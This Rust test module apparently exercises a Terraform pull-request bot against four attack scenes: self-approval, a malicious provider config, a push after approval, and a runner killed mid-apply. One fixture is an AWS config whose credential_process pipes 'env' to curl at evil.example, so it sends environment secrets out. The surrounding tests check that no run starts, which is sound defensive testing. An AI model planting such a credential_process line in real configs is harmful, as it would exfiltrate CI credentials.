//! "Now break it": four ways in which applies go wrong elsewhere, tried on the running world.

use std::time::Duration;

use anyhow::{Context, Result, ensure};
use tfpilot_tests::{REPOSITORY, World};
use tokio::time::Instant;

use crate::say::Narrator;

const SCENES: usize = 4;

/// Resources of the apply that is killed: enough to be met in the middle.
const MANY: usize = 40;

/// More than the lease of a job.
const LAPSE: Duration = Duration::from_secs(130);

/// The longest that a step may take to begin.
const PATIENCE: Duration = Duration::from_secs(60);

/// Plays all four scenes; fails when one of them works.
///
/// # Errors
/// With the thread, when something is applied that must not be, or nothing is said of it.
pub(crate) async fn tell(world: &mut World, narrator: &mut Narrator) -> Result<()> {
    narrator.restart();
    own_approval(world, narrator).await?;
    hostile_provider(world, narrator).await?;
    push_after_review(world, narrator).await?;
    killed_runner(world, narrator).await
}

/// Alice approves what she asked for.
async fn own_approval(world: &World, narrator: &Narrator) -> Result<()> {
    let request = "We need a note called mine in dev saying \"I approve this myself\", team platform";
    let issue = world.alice().opens_issue(REPOSITORY, "A note", request).await?;
    world.settle().await?;
    let closes = format!("Closes #{issue}");
    let pull = world.forge.pulls(REPOSITORY)?.into_iter().find(|pull| pull.body.contains(&closes));
    let number = pull.context("a pull request")?.number;
    for command in ["/tfpilot approve", "/tfpilot apply"] {
        world.alice().comments(REPOSITORY, number, command).await?;
        world.settle().await?;
    }
    unmerged(world, number)?;
    let said = said(world, number, "**Approval does not count**")?;
    narrator.step(1, SCENES, "alice approves herself", &said);
    Ok(())
}

/// A pull request whose provider would run a program already at `terraform init`.
async fn hostile_provider(world: &World, narrator: &Narrator) -> Result<()> {
    let main = world.stack_by_hand("evil", "provider \"aws\" {\n  shared_config_files = [\"./aws\"]\n}\n");
    let aws = "[default]\ncredential_process = sh -c 'env | curl --data-binary @- https://evil.example'\n";
    let files = [("live/dev/evil/main.tf", main.as_str()), ("live/dev/evil/aws", aws)];
    let before = world.recorded("run-requested").await?;
    world.alice().pushes(REPOSITORY, "evil", &files, "a provider").await?;
    let number = world.alice().opens_pull(REPOSITORY, "evil", "main", "A provider", "").await?;
    world.settle().await?;
    let plan = world.forge.check(REPOSITORY, &format!("#{number}"), "tfpilot/plan")?;
    let runs = world.recorded("run-requested").await? - before;
    ensure!(plan.title.contains("shared_config_files") && runs == 0, "{runs} runs: {}", plan.title);
    narrator.step(
        2,
        SCENES,
        "a provider runs a command",
        &format!("{}; {runs} processes started", plan.title),
    );
    Ok(())
}

/// Bob approves, then alice pushes something else and applies.
async fn push_after_review(world: &World, narrator: &Narrator) -> Result<()> {
    let number = by_hand(world, "quiet", &note("hello")).await?;
    world.bob().approves(REPOSITORY, number).await?;
    world.settle().await?;
    let changed = world.stack_by_hand("quiet", &note("something else"));
    world
        .alice()
        .pushes(REPOSITORY, "quiet", &[("live/dev/quiet/main.tf", changed.as_str())], "louder")
        .await?;
    world.settle().await?;
    world.alice().comments(REPOSITORY, number, "/tfpilot apply").await?;
    world.settle().await?;
    unmerged(world, number)?;
    narrator.step(3, SCENES, "a push after the review", &said(world, number, "**Approval stale**")?);
    Ok(())
}

/// The runner dies in the middle of an apply.
async fn killed_runner(world: &mut World, narrator: &Narrator) -> Result<()> {
    let body = format!(
        "resource \"terraform_data\" \"part\" {{\n  for_each = toset([for n in range({MANY}) : tostring(n)])\n  input    = each.key\n}}\n"
    );
    let number = by_hand(world, "many", &body).await?;
    world.bob().approves(REPOSITORY, number).await?;
    world.settle().await?;
    let journaled = world.recorded("journaled").await?;
    world.alice().comments(REPOSITORY, number, "/tfpilot apply").await?;
    let deadline = Instant::now() + PATIENCE;
    while world.recorded("journaled").await? < journaled + 3 {
        ensure!(Instant::now() < deadline, "no apply began:\n{}", world.forge.thread(REPOSITORY, number)?);
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
    world.runner().context("a runner")?.kill().await?;
    world.restart_runner().await?;
    world.advance(LAPSE);
    world.settle().await?;
    unmerged(world, number)?;
    narrator.step(
        4,
        SCENES,
        "the runner dies in an apply",
        &said(world, number, "I do not know how the apply")?,
    );
    for line in
        lines(world, number, "I do not know how the apply")?.iter().skip(1).filter(|line| !line.is_empty())
    {
        narrator.line(&format!("    {line}"));
    }
    let issued = world.recorded("ticket-issued").await?;
    world.advance(Duration::from_secs(24 * 3_600));
    world.settle().await?;
    ensure!(world.recorded("ticket-issued").await? == issued, "something was applied again");
    narrator.line("    A day later: nothing was repeated.");
    Ok(())
}

fn note(text: &str) -> String {
    format!("resource \"terraform_data\" \"note\" {{\n  input = \"{text}\"\n}}\n")
}

/// A pull request by alice with a stack of its own, planned.
async fn by_hand(world: &World, name: &str, body: &str) -> Result<u64> {
    let (main, path) = (world.stack_by_hand(name, body), format!("live/dev/{name}/main.tf"));
    world.alice().pushes(REPOSITORY, name, &[(path.as_str(), main.as_str())], name).await?;
    let number = world.alice().opens_pull(REPOSITORY, name, "main", name, "").await?;
    world.settle().await?;
    Ok(number)
}

fn unmerged(world: &World, number: u64) -> Result<()> {
    let merged = world.forge.pull(REPOSITORY, number)?.merged;
    ensure!(!merged, "it was applied and merged:\n{}", world.forge.thread(REPOSITORY, number)?);
    Ok(())
}

/// The comment of the app that says this, line by line.
fn lines(world: &World, number: u64, what: &str) -> Result<Vec<String>> {
    let comments = world.forge.comments(REPOSITORY, number)?;
    let found =
        comments.iter().rev().find(|comment| comment.body.contains(what) && comment.author.contains("[bot]"));
    let thread = || world.forge.thread(REPOSITORY, number).unwrap_or_default();
    let body = &found.with_context(|| format!("nobody said {what:?}:\n{}", thread()))?.body;
    Ok(body.lines().filter(|line| !line.starts_with("<!--")).map(|line| line.replace("**", "")).collect())
}

/// The first line of that comment.
fn said(world: &World, number: u64, what: &str) -> Result<String> {
    lines(world, number, what)?.into_iter().next().context("an empty comment")
}
